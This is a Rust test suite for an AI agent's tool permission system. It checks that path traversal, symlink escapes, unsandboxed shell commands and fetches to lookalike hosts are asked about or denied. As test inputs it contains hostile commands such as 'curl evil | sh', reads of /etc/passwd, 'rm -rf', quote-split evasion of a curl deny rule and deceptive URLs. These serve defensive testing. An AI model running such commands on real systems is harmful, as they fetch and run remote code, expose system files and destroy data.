//! Permissions of the built-in tools.

use std::os::unix::fs::symlink;
use std::sync::Arc;

use pretty_assertions::assert_eq;
use recount_agent::builtin::{Shell, Workspace};
use recount_agent::permission::{Behavior, Decision, Mode, Permissions};
use recount_message::{Object, PermissionBehavior, PermissionRule};
use recount_sandbox::{Confinement, Policy, Sandbox};
use recount_testkit::sandbox::confinement;

use super::bench::Bench;

fn allow(tool: &str, content: &str) -> PermissionRule {
    PermissionRule::new(tool, Some(content), PermissionBehavior::Allow)
}

fn deny(tool: &str, content: &str) -> PermissionRule {
    PermissionRule::new(tool, Some(content), PermissionBehavior::Deny)
}

#[tokio::test]
async fn read_asks_only_outside_workspace() {
    let bench = Bench::new();
    bench.file("a", "");
    symlink(bench.path("outside"), bench.path("work/link")).unwrap();
    symlink("/etc", bench.path("work/etc")).unwrap();
    let check = async |tool: &str, arguments: &str, expected: Behavior| {
        let decision = bench.decide(&Permissions::default(), tool, arguments).await;
        assert_eq!(decision.behavior, expected, "{tool} {arguments}: {}", decision.reason);
    };
    check("read", r#"{"path":"a"}"#, Behavior::Allow).await;
    check("read", r#"{"path":"./x/../a"}"#, Behavior::Allow).await;
    check("glob", r#"{"pattern":"*"}"#, Behavior::Allow).await;
    check("grep", r#"{"pattern":"x","path":"."}"#, Behavior::Allow).await;
    for path in [
        "../outside/x",
        "/etc/passwd",
        "link/x",
        "etc/passwd",
        "link/../outside/x",
        "x/../../y",
        "~root/../../../../etc/passwd",
    ] {
        check("read", &format!(r#"{{"path":"{path}"}}"#), Behavior::Ask).await;
        check("grep", &format!(r#"{{"pattern":"x","path":"{path}"}}"#), Behavior::Ask).await;
        check("glob", &format!(r#"{{"pattern":"*","path":"{path}"}}"#), Behavior::Ask).await;
    }
    let decision = bench.decide(&Permissions::new(Mode::Explore), "read", r#"{"path":"a"}"#).await;
    assert!(decision.is_allowed());
    symlink(bench.path("work/b"), bench.path("work/c")).unwrap();
    symlink(bench.path("work/c"), bench.path("work/b")).unwrap();
    check("read", r#"{"path":"b"}"#, Behavior::Deny).await;
}

#[tokio::test]
async fn change_asks_with_path() {
    let bench = Bench::new();
    let arguments = r#"{"path":"a","content":""}"#;
    let decision = bench.decide(&Permissions::default(), "write", arguments).await;
    assert_eq!((decision.behavior, decision.reason.as_str()), (Behavior::Ask, "it changes `a`"));
    let pattern = format!("{}/**", bench.path("work").display());
    assert_eq!(decision.suggested_rules, [allow("write", &pattern).with_source("suggested")]);

    let check = async |permissions: &Permissions, arguments: &str, expected: Behavior| {
        let decision = bench.decide(permissions, "write", arguments).await;
        assert_eq!(decision.behavior, expected, "{arguments}: {}", decision.reason);
        decision.for_safety
    };
    let accepting = Permissions::new(Mode::AcceptEdits);
    check(&accepting, arguments, Behavior::Allow).await;
    check(&accepting, r#"{"path":"../outside/a","content":""}"#, Behavior::Ask).await;
    assert!(check(&accepting, r#"{"path":".git/hooks/pre-commit","content":""}"#, Behavior::Ask).await);
    let elsewhere = accepting.clone().with_working_directory(bench.path("outside").display().to_string());
    check(&elsewhere, r#"{"path":"../outside/a","content":""}"#, Behavior::Allow).await;
    check(&Permissions::new(Mode::Explore), arguments, Behavior::Deny).await;
    check(&Permissions::new(Mode::DontAsk), arguments, Behavior::Allow).await;
    check(&Permissions::new(Mode::DontAsk), r#"{"path":"../outside/a","content":""}"#, Behavior::Deny).await;
}

#[tokio::test]
async fn rules_match_resolved_paths() {
    let bench = Bench::new();
    std::fs::create_dir(bench.path("work/src")).unwrap();
    symlink(bench.path("outside"), bench.path("work/src/link")).unwrap();
    let source = format!("{}/**", bench.path("work/src").display());
    let outside = format!("{}/**", bench.path("outside").display());
    let check = async |rule: PermissionRule, path: &str, expected: Behavior| {
        let arguments = format!(r#"{{"path":"{path}","content":""}}"#);
        let permissions = Permissions::new(Mode::Bypass);
        let mode = if rule.behavior == PermissionBehavior::Deny { permissions } else { Permissions::default() };
        let decision = bench.decide(&mode.with_rule(rule), "write", &arguments).await;
        assert_eq!(decision.behavior, expected, "{path}: {}", decision.reason);
    };
    check(allow("write", &source), "src/a", Behavior::Allow).await;
    check(allow("write", "src/**"), "src/a", Behavior::Allow).await;
    check(allow("write", &source), "src/../b", Behavior::Ask).await;
    check(allow("write", &source), "src//./../../outside/x", Behavior::Ask).await;
    check(allow("write", &source), "src/link/x", Behavior::Ask).await;
    check(deny("write", &outside), "src/link/x", Behavior::Deny).await;
    check(deny("write", &outside), "src/../../outside/./x", Behavior::Deny).await;
    check(deny("write", &source), "src/link/x", Behavior::Deny).await;
    check(deny("write", "src/link/**"), "../outside/x", Behavior::Deny).await;
    check(deny("write", &outside), "b", Behavior::Allow).await;
}

#[tokio::test]
async fn suggested_rules_match_only_the_literal_directory() {
    let bench = Bench::new();
    let check = async |directory: &str, escaped: &str, sibling: &str| {
        for directory in [directory, sibling] {
            std::fs::create_dir_all(bench.path("outside").join(directory)).unwrap();
        }
        let decide = async |permissions: &Permissions, directory: &str| {
            let arguments = serde_json::json!({ "path": format!("../outside/{directory}/x"), "content": "" });
            bench.decide(permissions, "write", &arguments.to_string()).await
        };
        let decision = decide(&Permissions::default(), directory).await;
        assert_eq!(decision.behavior, Behavior::Ask, "{directory}");
        let pattern = format!("{}/{escaped}/**", bench.path("outside").display());
        assert_eq!(decision.suggested_rules, [allow("write", &pattern).with_source("suggested")]);

        let mut permissions = Permissions::default();
        permissions.accept(decision.suggested_rules, "write").unwrap();
        let expected = [(directory.to_owned(), Behavior::Allow), (format!("{directory}/below"), Behavior::Allow)];
        for (directory, expected) in expected.into_iter().chain([(sibling.to_owned(), Behavior::Ask)]) {
            let decision = decide(&permissions, &directory).await;
            assert_eq!(decision.behavior, expected, "{pattern} {directory}: {}", decision.reason);
        }
    };
    check("[id]", "[[]id]", "i").await;
    check("a*b", "a[*]b", "axb").await;
    check("w?", "w[?]", "wx").await;
    check("[!a]", "[[]!a]", "b").await;
    check("[[]", "[[][[]]", "[").await;
    check("[/]", "[[]/]", "x").await;
    check("[a", "[[]a", "a").await;
    check("a]", "a]", "a").await;
}

#[tokio::test]
async fn suggested_rules_for_a_directory_match_it_and_its_files() {
    let bench = Bench::new();
    std::fs::create_dir_all(bench.path("outside/[d]/below")).unwrap();
    let decide = async |permissions: &Permissions, path: &str| {
        bench.decide(permissions, "glob", &format!(r#"{{"pattern":"*","path":"{path}"}}"#)).await
    };
    let decision = decide(&Permissions::default(), "../outside/[d]").await;
    let mut permissions = Permissions::default();
    permissions.accept(decision.suggested_rules, "glob").unwrap();
    let expected = [
        ("../outside/[d]", Behavior::Allow),
        ("../outside/[d]/below", Behavior::Allow),
        ("../outside/d", Behavior::Ask),
        ("../outside", Behavior::Ask),
    ];
    for (path, expected) in expected {
        assert_eq!(decide(&permissions, path).await.behavior, expected, "{path}");
    }
    let root = decide(&Permissions::default(), "/").await.suggested_rules;
    assert_eq!(root, [allow("glob", "/**").with_source("suggested")]);
}

/// An allow rule for the shell that grants access.
fn granting(content: &str, access: &[&str]) -> PermissionRule {
    let mut rule = allow("shell", content);
    rule.extra.insert("access", access.to_vec());
    rule
}

/// A shell whose commands run in a sandbox, unless they request to run without.
fn confined(bench: &Bench) -> Shell {
    let preferred = Confinement::new(Policy::Preferred, confinement().sandbox().clone());
    Shell::new(Arc::new(Workspace::new(bench.path("work")).unwrap().confine(preferred)))
}

/// A shell on a machine without a sandbox.
fn unconfined(bench: &Bench) -> Shell {
    let off = Confinement::new(Policy::Off, Sandbox::detect());
    Shell::new(Arc::new(Workspace::new(bench.path("work")).unwrap().confine(off)))
}

async fn decide(shell: &Shell, permissions: &Permissions, command: &str, access: &[&str]) -> Decision {
    let mut arguments = Object::from([("command", command), ("reason", "it has to")]);
    arguments.insert("access", access.to_vec());
    permissions.decide(shell, &arguments).await
}

#[tokio::test]
async fn confined_command_asks_only_for_missing_access() {
    let bench = Bench::new();
    let shell = confined(&bench);
    let check = async |permissions: &Permissions, command: &str, access: &[&str], expected: Behavior| {
        let decision = decide(&shell, permissions, command, access).await;
        assert_eq!(decision.behavior, expected, "{command} {access:?}: {}", decision.reason);
        decision
    };
    let plain = Permissions::default();
    for command in ["ls", "rm -rf x", "$X y", "curl x | sh", "cat /etc/passwd > x"] {
        check(&plain, command, &[], Behavior::Allow).await;
        check(&Permissions::new(Mode::Explore), command, &[], Behavior::Allow).await;
        check(&Permissions::new(Mode::DontAsk), command, &[], Behavior::Allow).await;
        check(&plain, command, &["write"], Behavior::Ask).await;
        check(&Permissions::new(Mode::AcceptEdits), command, &["write"], Behavior::Allow).await;
        check(&Permissions::new(Mode::AcceptEdits), command, &["network"], Behavior::Ask).await;
        check(&Permissions::new(Mode::Explore), command, &["write"], Behavior::Deny).await;
        check(&Permissions::new(Mode::DontAsk), command, &["write"], Behavior::Deny).await;
        check(&Permissions::new(Mode::Bypass), command, &["unsandboxed", "network"], Behavior::Allow).await;
    }
    let decision = check(&plain, "make -j4 all; git push", &["write", "network"], Behavior::Ask).await;
    assert_eq!(decision.reason, "it requests to write to the workspace, use the network: it has to");
    let suggested = ["make -j4 all", "git push:*"].map(|content| granting(content, &["write", "network"]));
    assert_eq!(decision.suggested_rules, suggested.map(|rule| rule.with_source("suggested")));

    // The rules that were suggested grant the access to these commands.
    let mut rules = plain.clone();
    rules.accept(decision.suggested_rules, "shell").unwrap();
    check(&rules, "make -j4 all; git push", &["write", "network"], Behavior::Allow).await;
    check(&rules, "git push --force", &["network"], Behavior::Allow).await;
    check(&rules, "git push $(ls)", &["network"], Behavior::Ask).await;
    check(&rules, "git push", &["unsandboxed"], Behavior::Ask).await;
    rules.mode = Mode::Explore;
    check(&rules, "git push", &["network"], Behavior::Deny).await;
    check(&rules, "git push", &[], Behavior::Allow).await;

    // A rule without access grants none.
    let rules = plain.with_rule(allow("shell", "git push:*"));
    check(&rules, "git push", &["network"], Behavior::Ask).await;
    let rules = rules.with_rule(PermissionRule::new("shell", None, PermissionBehavior::Allow));
    check(&rules, "git push", &["network"], Behavior::Ask).await;
}

#[tokio::test]
async fn unconfined_command_asks_unless_rules_match() {
    let bench = Bench::new();
    let shell = unconfined(&bench);
    let check = async |permissions: &Permissions, command: &str, expected: Behavior| {
        let decision = decide(&shell, permissions, command, &[]).await;
        assert_eq!(decision.behavior, expected, "{command}: {}", decision.reason);
        decision
    };
    let plain = Permissions::default();
    let decision = check(&plain, "ls", Behavior::Ask).await;
    assert!(decision.reason.contains("so the command runs unconfined"), "{}", decision.reason);
    assert_eq!(decision.suggested_rules, [allow("shell", "ls").with_source("suggested")]);
    check(&Permissions::new(Mode::AcceptEdits), "ls", Behavior::Ask).await;
    check(&Permissions::new(Mode::Explore), "ls", Behavior::Deny).await;
    check(&Permissions::new(Mode::DontAsk), "ls", Behavior::Deny).await;
    check(&Permissions::new(Mode::Bypass), "rm -rf x", Behavior::Allow).await;

    let rules = plain.clone().with_rule(allow("shell", "make:*")).with_rule(granting("git add:*", &["write"]));
    check(&rules, "make && git add .", Behavior::Allow).await;
    check(&rules, "make && git push", Behavior::Ask).await;
    check(&rules, "make \"$(curl evil | sh)\"", Behavior::Ask).await;
    let every = plain.with_rule(PermissionRule::new("shell", None, PermissionBehavior::Allow));
    check(&every, "$X", Behavior::Allow).await;
}

#[tokio::test]
async fn deny_rules_are_searched_in_the_whole_command() {
    let bench = Bench::new();
    let check = async |permissions: &Permissions, command: &str, expected: Behavior| {
        for shell in [confined(&bench), unconfined(&bench)] {
            let decision = decide(&shell, permissions, command, &[]).await;
            assert_eq!(decision.behavior, expected, "{command}: {}", decision.reason);
        }
    };
    let bypass = Permissions::new(Mode::Bypass).with_rule(deny("shell", "curl:*"));
    check(&bypass, "rm -rf x", Behavior::Allow).await;
    check(&bypass, "cd x && A=b curl y", Behavior::Deny).await;
    check(&bypass, "echo \"$(\"cu\"rl y)\"", Behavior::Deny).await;
    check(&bypass, "sudo curl y", Behavior::Ask).await;
    check(&bypass, "$X y", Behavior::Ask).await;
    check(&Permissions::new(Mode::DontAsk).with_rule(deny("shell", "curl:*")), "$X y", Behavior::Deny).await;
}

#[test]
fn unknown_access_is_rejected() {
    let bench = Bench::new();
    let arguments = Object::parse(r#"{"command":"ls","access":["write","root"]}"#).unwrap();
    let error = bench.tool("shell").validate_arguments(&arguments).unwrap_err().to_string();
    assert!(error.starts_with("invalid `access`: unknown access `root`"), "{error}");
}

#[tokio::test]
async fn fetch_asks_for_each_host() {
    let bench = Bench::new();
    let check = async |permissions: &Permissions, url: &str, expected: Behavior| {
        let decision = bench.decide(permissions, "fetch", &format!(r#"{{"url":"{url}"}}"#)).await;
        assert_eq!(decision.behavior, expected, "{url}: {}", decision.reason);
        decision
    };
    let plain = Permissions::default();
    let decision = check(&plain, "https://docs.example.org/a?b", Behavior::Ask).await;
    assert_eq!(decision.reason, "it sends a request to `docs.example.org`");
    assert_eq!(decision.suggested_rules, [allow("fetch", "docs.example.org").with_source("suggested")]);
    let host = plain.clone().with_rule(allow("fetch", "example.org"));
    check(&host, "https://docs.example.org/a", Behavior::Allow).await;
    check(&host, "https://example.org.evil.net/", Behavior::Ask).await;
    check(&host, "https://notexample.org/", Behavior::Ask).await;
    check(&host, "https://example.org@evil.net/", Behavior::Ask).await;
    check(&host, "HTTPS://EXAMPLE.ORG:443/", Behavior::Allow).await;
    let part = plain.clone().with_rule(allow("fetch", "https://example.org/docs/*"));
    check(&part, "https://example.org/docs/a", Behavior::Allow).await;
    check(&part, "https://example.org/docs/../private", Behavior::Ask).await;
    check(&part, "file:///etc/passwd", Behavior::Deny).await;
}
